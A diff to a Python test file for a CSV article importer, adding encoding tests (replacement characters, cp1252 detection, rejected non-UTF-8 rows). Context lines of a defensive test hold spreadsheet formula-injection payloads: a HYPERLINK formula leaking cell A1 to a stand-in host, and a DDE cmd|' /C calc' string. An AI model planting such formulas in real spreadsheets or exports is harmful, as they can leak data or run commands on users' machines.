@@ -90,6 +90,24 @@ def test_a_legacy_encoding(tmp_path: Path) -> None:
     assert first.text == text
 
 
+def test_a_bad_byte_costs_its_letter(tmp_path: Path) -> None:
+    content = (
+        "title,text\nOne,Das Café ist zu.\n".encode()
+        + b"Two,Das Caf\xe9 ist \xc3\xbcberf\xc3\xbcllt.\n"
+    )
+    assert [one.text for one in articles(found(tmp_path, "a.csv", content))] == [
+        "Das Café ist zu.",
+        "Das Caf\ufffd ist überfüllt.",
+    ]
+
+
+def test_letters_that_come_late_tell_the_encoding(tmp_path: Path) -> None:
+    rows = "".join(f"{n},{'The dam failed on Monday. ' * 40}\n" for n in range(300))
+    content = f"title,text\n{rows}Last,The mayor’s office said it didn’t know of any danger.\n"
+    (last,) = articles(found(tmp_path, "a.csv", content.encode("cp1252"))[-1:])
+    assert last.text == "The mayor’s office said it didn’t know of any danger."
+
+
 def test_a_formula_is_words_like_others(tmp_path: Path) -> None:
     formula = '=HYPERLINK("http://example.com/?"&A1,"The dam failed on Monday.")'
     command = "@SUM(1+1)*cmd|' /C calc'!A0 is what the cell says."
@@ -101,18 +119,20 @@ def test_a_formula_is_words_like_others(tmp_path: Path) -> None:
 
 def test_a_bad_row_is_rejected_and_the_rest_goes_in(tmp_path: Path) -> None:
     content = (
-        b"title,text\nOne,The dam failed.\nTwo,\nThree,The dam, it failed.\n"
-        b"Four,Caf\xc3\xa9 \xff broken.\nFive," + b"x" * (2 << 20) + b"\nSix,The bridge fell.\n"
+        "title,text\nOne,Мост снова открыт для всех.\nTwo,\nThree,The dam, it failed.\n".encode()
+        + b"Four,\xd4\xee\xf0\xf3\xec \xe7\xe0\xea\xf0\xfb\xf2.\nFive,"
+        + b"x" * (2 << 20)
+        + b"\nSix,The bridge fell.\n"
     )
     entries = found(tmp_path, "a.csv", content)
     assert [article.text for article in articles(entries)] == [
-        "The dam failed.",
+        "Мост снова открыт для всех.",
         "The bridge fell.",
     ]
     two, three, four, five = reasons(entries)
     assert "no text" in two
     assert "3 cells where there are 2 columns" in three
-    assert "invalid utf-8 at byte 11 of line 5" in four
+    assert "line 5 is not in utf-8" in four
     assert "larger than 1 MiB" in five
     assert f"{tmp_path / 'a.csv'}#row 4" in {one.source for one in entries}
 
